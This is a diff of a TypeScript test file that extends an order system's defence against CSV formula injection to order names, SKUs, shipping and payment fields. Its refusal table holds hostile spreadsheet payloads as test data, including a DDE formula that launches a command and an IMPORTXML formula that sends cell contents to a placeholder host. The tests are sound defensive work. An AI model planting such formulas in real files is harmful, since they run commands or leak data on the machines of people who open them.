@@ -1,7 +1,8 @@
 /**
  * Security review (issue 16 §4): CSV formula injection. A value starting with `=`, `+`, `-`, `@`,
  * a tab or a CR is run as a formula by a spreadsheet that opens the CSV. The OMS refuses such
- * values at intake where the field allows (customer names, e-mails, phones, addresses of orders
+ * values at intake where the field allows (customer names, e-mails, phones, addresses, the order
+ * name, sales channel, line SKUs and shipping methods, payment methods and references of orders
  * from the HTTP API and storefront files; a phone may start with `+` followed by digits), and
  * neutralises every cell of the error reports (`error/*.errors.csv`, opened by people) with a
  * leading `'`. Outbound NetSuite feeds are not altered (`-3` is a legitimate quantity there).
@@ -41,9 +42,37 @@ const valid = (): OrderInput =>
     lines: [{ sku: 'A', quantity: 2, price: 10, shippingMethod: 'STANDARD' }],
   }) as OrderInput;
 
-describe('intake refuses formula-like customer values, naming the field', () => {
+describe('intake refuses formula-like customer and order values, naming the field', () => {
   it('accepts ordinary values, international phones included', () => {
     expect(validateOrder(valid()).ok).toBe(true);
+  });
+
+  it('accepts SKUs, names and references with = + - @ inside, not at the start', () => {
+    const order = valid() as unknown as {
+      name: string;
+      lines: Array<{ sku: string }>;
+      payments: Array<{ reference: string }>;
+    };
+    order.name = '#1001 - gift (+ card)';
+    order.lines[0]!.sku = 'TEE-M=BLUE@2025';
+    order.payments[0]!.reference = 'pay+1-2';
+    expect(validateOrder(order).ok).toBe(true);
+  });
+
+  it('names the line or payment at fault, and every field at fault', () => {
+    const order = valid() as unknown as {
+      name: string;
+      lines: Array<Record<string, unknown>>;
+    };
+    order.lines.push({ sku: '=2+2', quantity: 1, price: 1, shippingMethod: 'STANDARD' });
+    order.name = '-1001';
+    const out = validateOrder(order);
+    expect(out.ok).toBe(false);
+    if (out.ok) return;
+    expect(out.errors.map(formatValidationError)).toEqual([
+      'order shop-1001: name "-1001" must not start with =, +, -, @, a tab or a line break (a spreadsheet would run it as a formula)',
+      'order shop-1001: lines[1].sku "=2+2" must not start with =, +, -, @, a tab or a line break (a spreadsheet would run it as a formula)',
+    ]);
   });
 
   it.each([
@@ -56,10 +85,20 @@ describe('intake refuses formula-like customer values, naming the field', () => 
     ['customer.billingAddress.city', '\rLondon'],
     ['customer.billingAddress.zip', '-N1'],
     ['customer.shippingAddress.phone', '=1+1'],
-  ] as const)('refuses %s', (field, value) => {
+    ['customer.shopCustomerId', '=cmd|"/C calc"!A0'],
+    ['name', '=HYPERLINK("http://x","#1001")'],
+    ['name', '+1001'],
+    ['salesChannel', '@web'],
+    ['lines[0].sku', '=IMPORTXML(CONCAT("http://x/?",A1),"//a")'],
+    ['lines[0].sku', '-SKU-1'],
+    ['lines[0].sku', '\tSKU-1'],
+    ['lines[0].shippingMethod', '+STANDARD'],
+    ['payments[0].method', '\rcard'],
+    ['payments[0].reference', '@pay-1'],
+  ] as const)('refuses %s %j', (field, value) => {
     const order = valid();
-    // Sets the value at the field's path (customer.x or customer.address.x).
-    const path = field.split('.');
+    // Sets the value at the field's path (customer.x, customer.address.x, lines[0].sku, …).
+    const path = field.replace(/\[(\d+)\]/g, '.$1').split('.');
     let at = order as unknown as Record<string, unknown>;
     for (const p of path.slice(0, -1)) at = at[p] as Record<string, unknown>;
     at[path[path.length - 1]!] = value;
